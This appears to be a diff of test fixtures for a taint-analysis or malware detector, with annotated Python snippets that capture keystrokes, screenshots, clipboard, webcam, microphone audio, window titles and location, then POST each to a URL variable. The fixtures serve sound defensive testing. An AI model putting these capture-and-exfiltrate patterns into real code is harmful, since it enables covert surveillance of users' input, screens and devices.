@@ -60,12 +60,15 @@ def count_key(key):
 def listen_keys():
     Listener(on_press=send_key)  #~ source(KEYSTROKE) fkey, capability(KEYBOARD)
     Listener(on_press=count_key)  #~ ok
+
+
+def hot_keys():
     GlobalHotKeys({})  #~ capability(KEYBOARD)
     GlobalHotKeys({})  #~ ok
 
 
 def recorded_keys():
-    requests.post(U, data=keyboard.record())  #~ source(KEYSTROKE) f8, sink(egress.http) f8, finding(traced) f8, capability(KEYBOARD)
+    requests.post(U, data=keyboard.record())  #~ source(KEYSTROKE) f9, sink(egress.http) f9, finding(traced) f9, capability(KEYBOARD)
 
 
 def send_hooked(event):
@@ -95,9 +98,9 @@ def hook_windows_quiet():
 
 
 def device_keys():
-    device = evdev.InputDevice("/dev/input/event0")  #~ source(KEYSTROKE) f14, capability(KEYBOARD)
+    device = evdev.InputDevice("/dev/input/event0")  #~ source(KEYSTROKE) f15, capability(KEYBOARD)
     for event in device.read_loop():
-        requests.post(U, data=event.code)  #~ sink(egress.http) f14, finding(traced) f14
+        requests.post(U, data=event.code)  #~ sink(egress.http) f15, finding(traced) f15
 
 
 def device_compared():
@@ -107,18 +110,18 @@ def device_compared():
 
 def screen_grab():
     with mss.mss() as grabber:  #~ capability(SCREEN)
-        image = grabber.grab(grabber.monitors[0])  #~ source(SCREEN) f16
-        requests.post(U, data=image.rgb)  #~ sink(egress.http) f16, finding(traced) f16
+        image = grabber.grab(grabber.monitors[0])  #~ source(SCREEN) f17
+        requests.post(U, data=image.rgb)  #~ sink(egress.http) f17, finding(traced) f17
 
 
 def screen_png():
-    image = mss.mss().grab({})  #~ source(SCREEN) f17
-    requests.post(U, data=mss.tools.to_png(image.rgb, image.size))  #~ sink(egress.http) f17, finding(traced) f17
+    image = mss.mss().grab({})  #~ source(SCREEN) f18
+    requests.post(U, data=mss.tools.to_png(image.rgb, image.size))  #~ sink(egress.http) f18, finding(traced) f18
 
 
 def screen_shot():
-    mss.mss().shot(output="/tmp/mss.png")  #~ source(SCREEN) f18, capability(FILE_WRITE)
-    requests.post(U, data=open("/tmp/mss.png", "r+b").read())  #~ sink(egress.http) fshot, finding(traced) fshot
+    mss.mss().shot(output="/tmp/mss.png")  #~ source(SCREEN) f19, capability(FILE_WRITE)
+    requests.post(U, data=open("/tmp/mss.png", "a+b").read())  #~ sink(egress.http) f19, finding(traced) f19
 
 
 def screen_compared():
@@ -130,32 +133,43 @@ def screen_compared():
 
 
 def image_grab():
-    image = ImageGrab.grab()  #~ source(SCREEN) f20, capability(SCREEN)
-    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f20, finding(traced) f20
+    image = ImageGrab.grab()  #~ source(SCREEN) f21, capability(SCREEN)
+    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f21, finding(traced) f21
 
 
 def image_saved():
     buffer = io.BytesIO()
-    ImageGrab.grab().save(buffer, "PNG")  #~ source(SCREEN) f21, capability(FILE_WRITE)
-    requests.post(U, data=buffer.getvalue())  #~ sink(egress.http) f21, finding(traced) f21
+    ImageGrab.grab().save(buffer, "PNG")  #~ source(SCREEN) f22, capability(FILE_WRITE)
+    requests.post(U, data=buffer.getvalue())  #~ sink(egress.http) f22, finding(traced) f22
 
 
 def image_clipboard():
-    image = ImageGrab.grabclipboard()  #~ source(CLIPBOARD) f22, capability(CLIPBOARD)
-    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f22, finding(traced) f22
-
-
-def image_grab_old():
-    image = OldImageGrab.grab()  #~ source(SCREEN) f23, capability(SCREEN)
+    image = ImageGrab.grabclipboard()  #~ source(CLIPBOARD) f23, capability(CLIPBOARD)
     requests.post(U, data=image.tobytes())  #~ sink(egress.http) f23, finding(traced) f23
 
 
-def image_opened():
-    image = Image.open("/home/me/card.png")  #~ source(FILE) f24
+def image_grab_old():
+    image = OldImageGrab.grab()  #~ source(SCREEN) f24, capability(SCREEN)
     requests.post(U, data=image.tobytes())  #~ sink(egress.http) f24, finding(traced) f24
 
 
+def image_opened():
+    image = Image.open("/home/me/card.png")  #~ source(FILE) f25, capability(FILES)
+    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f25, finding(traced) f25
+
+
+def image_opened_stream():
+    image = Image.open(io.BytesIO(mss.mss().grab({}).rgb))  #~ source(SCREEN) f26
+    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f26, finding(traced) f26
+
+
+def image_from_bytes():
+    image = Image.frombytes("RGB", (1, 1), mss.mss().grab({}).bgra)  #~ source(SCREEN) f27
+    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f27, finding(traced) f27
+
+
 def image_compared():
+    requests.post(U, data=Image.frombytes("RGB", (1, 1), b"ping").tobytes())  #~ ok
     ImageGrab.grab().save("/tmp/unsent.png")  #~ ok
     requests.post(U, data={"none": ImageGrab.grabclipboard() == ""})  #~ ok
     requests.post(U, data={"none": Image.open("logo.png").tobytes() == b""})  #~ ok
@@ -163,13 +177,13 @@ def image_compared():
 
 
 def gui_screenshot():
-    image = pyautogui.screenshot()  #~ source(SCREEN) f26, capability(SCREEN)
-    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f26, finding(traced) f26
+    image = pyautogui.screenshot()  #~ source(SCREEN) f29, capability(SCREEN)
+    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f29, finding(traced) f29
 
 
 def gui_window(screen):
-    image = screen.grabWindow(0)  #~ source(SCREEN) f27, capability(SCREEN)
-    requests.post(U, data=image)  #~ sink(egress.http) f27, finding(traced) f27
+    image = screen.grabWindow(0)  #~ source(SCREEN) f30, capability(SCREEN)
+    requests.post(U, data=image)  #~ sink(egress.http) f30, finding(traced) f30
 
 
 def gui_compared(screen):
@@ -179,25 +193,25 @@ def gui_compared(screen):
 
 def camera():
     capture = cv2.VideoCapture(0)  #~ capability(CAMERA)
-    done, frame = capture.read()  #~ source(CAMERA) f29
-    requests.post(U, data=frame)  #~ sink(egress.http) f29, finding(traced) f29
+    done, frame = capture.read()  #~ source(CAMERA) f32
+    requests.post(U, data=frame)  #~ sink(egress.http) f32, finding(traced) f32
 
 
 def camera_encoded():
-    done, frame = cv2.VideoCapture(0).read()  #~ source(CAMERA) f30
+    done, frame = cv2.VideoCapture(0).read()  #~ source(CAMERA) f33
     done, data = cv2.imencode(".jpg", frame)
-    requests.post(U, data=data)  #~ sink(egress.http) f30, finding(traced) f30
+    requests.post(U, data=data)  #~ sink(egress.http) f33, finding(traced) f33
 
 
 def camera_written():
-    done, frame = cv2.VideoCapture(0).read()  #~ source(CAMERA) f31
+    done, frame = cv2.VideoCapture(0).read()  #~ source(CAMERA) f34
     cv2.imwrite("/tmp/cv2.jpg", frame)  #~ capability(FILE_WRITE)
-    requests.post(U, data=open("/tmp/cv2.jpg", "r+b").read())  #~ sink(egress.http) fcv, finding(traced) fcv
+    requests.post(U, data=open("/tmp/cv2.jpg", "a+b").read())  #~ sink(egress.http) f34, finding(traced) f34
 
 
 def camera_file():
-    image = cv2.imread("/home/me/card.png")  #~ source(FILE) f32, capability(FILES)
-    requests.post(U, data=image)  #~ sink(egress.http) f32, finding(traced) f32
+    image = cv2.imread("/home/me/card.png")  #~ source(FILE) f35, capability(FILES)
+    requests.post(U, data=image)  #~ sink(egress.http) f35, finding(traced) f35
 
 
 def camera_compared():
@@ -211,8 +225,8 @@ def camera_compared():
 
 def camera_pi():
     target = io.BytesIO()
-    picamera.PiCamera().capture(target, "jpeg")  #~ source(CAMERA) f34, capability(CAMERA)
-    requests.post(U, data=target.getvalue())  #~ sink(egress.http) f34, finding(traced) f34
+    picamera.PiCamera().capture(target, "jpeg")  #~ source(CAMERA) f37, capability(CAMERA)
+    requests.post(U, data=target.getvalue())  #~ sink(egress.http) f37, finding(traced) f37
 
 
 def camera_pi_unsent():
@@ -220,8 +234,8 @@ def camera_pi_unsent():
 
 
 def microphone():
-    sound = sounddevice.rec(100)  #~ source(AUDIO) f36, capability(MICROPHONE)
-    requests.post(U, data=sound)  #~ sink(egress.http) f36, finding(traced) f36
+    sound = sounddevice.rec(100)  #~ source(AUDIO) f39, capability(MICROPHONE)
+    requests.post(U, data=sound)  #~ sink(egress.http) f39, finding(traced) f39
 
 
 def send_sound(data, frames, time, status):
@@ -238,33 +252,33 @@ def microphone_stream():
 
 def microphone_stream_read():
     stream = sounddevice.InputStream()
-    data, overflowed = stream.read(100)  #~ source(AUDIO) f40
-    requests.post(U, data=data)  #~ sink(egress.http) f40, finding(traced) f40
+    data, overflowed = stream.read(100)  #~ source(AUDIO) f43
+    requests.post(U, data=data)  #~ sink(egress.http) f43, finding(traced) f43
 
 
 def microphone_old():
     stream = pyaudio.PyAudio().open(format=8)  #~ capability(MICROPHONE)
-    requests.post(U, data=stream.read(100))  #~ source(AUDIO) f41, sink(egress.http) f41, finding(traced) f41
+    requests.post(U, data=stream.read(100))  #~ source(AUDIO) f44, sink(egress.http) f44, finding(traced) f44
 
 
 def microphone_speech():
     recognizer = speech_recognition.Recognizer()
-    sound = recognizer.listen(None)  #~ source(AUDIO) f42, capability(MICROPHONE)
-    recognizer.recognize_google(sound)  #~ sink(egress.http) f42, finding(traced) f42, capability(NETWORK)
+    sound = recognizer.listen(None)  #~ source(AUDIO) f45, capability(MICROPHONE)
+    recognizer.recognize_google(sound)  #~ sink(egress.http) f45, finding(traced) f45, capability(NETWORK)
 
 
 def microphone_written():
-    sound = sounddevice.rec(100)  #~ source(AUDIO) f43
+    sound = sounddevice.rec(100)  #~ source(AUDIO) f46
     buffer = io.BytesIO()
     scipy.io.wavfile.write(buffer, 44100, sound)  #~ capability(FILE_WRITE)
-    requests.post(U, data=buffer.getvalue())  #~ sink(egress.http) f43, finding(traced) f43
+    requests.post(U, data=buffer.getvalue())  #~ sink(egress.http) f46, finding(traced) f46
 
 
 def microphone_wave():
-    sound = sounddevice.rec(100)  #~ source(AUDIO) f44
+    sound = sounddevice.rec(100)  #~ source(AUDIO) f47
     buffer = io.BytesIO()
     wave.open(buffer, "wb").writeframes(sound)  #~ capability(FILE_WRITE)
-    requests.post(U, data=buffer.getvalue())  #~ sink(egress.http) f44, finding(traced) f44
+    requests.post(U, data=buffer.getvalue())  #~ sink(egress.http) f47, finding(traced) f47
 
 
 def microphone_compared():
@@ -283,13 +297,13 @@ def microphone_compared():
 
 
 def window_title():
-    title = win32gui.GetWindowText(0)  #~ source(PROCESS) f46, capability(PROCESSES)
-    requests.post(U, data=title)  #~ sink(egress.http) f46, finding(traced) f46
+    title = win32gui.GetWindowText(0)  #~ source(PROCESS) f49, capability(PROCESSES)
+    requests.post(U, data=title)  #~ sink(egress.http) f49, finding(traced) f49
 
 
 def place():
-    here = geocoder.ip("me")  #~ source(LOCATION) f47, capability(LOCATION), capability(NETWORK)
-    requests.post(U, data=here.latlng)  #~ sink(egress.http) f47, finding(traced) f47
+    here = geocoder.ip("me")  #~ source(LOCATION) f50, capability(LOCATION), capability(NETWORK)
+    requests.post(U, data=here.latlng)  #~ sink(egress.http) f50, finding(traced) f50
 
 
 def window_compared():
